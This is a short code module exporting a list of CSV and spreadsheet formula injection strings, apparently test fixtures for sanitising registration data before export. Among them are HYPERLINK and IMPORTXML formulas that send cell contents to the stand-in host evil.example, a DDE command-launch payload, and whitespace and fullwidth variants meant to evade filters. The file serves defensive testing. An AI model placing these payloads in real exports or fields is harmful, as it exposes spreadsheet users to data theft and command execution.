/** Strings a hostile registration could carry into a spreadsheet (OWASP CSV injection and variants). */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
  '=1+1',
  '+SUM(1;2)',
  '-2+3',
  '@SUM(A1:A2)',
  '=cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\tTAB',
  '\rCR',
  ' =1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '-@x',
];
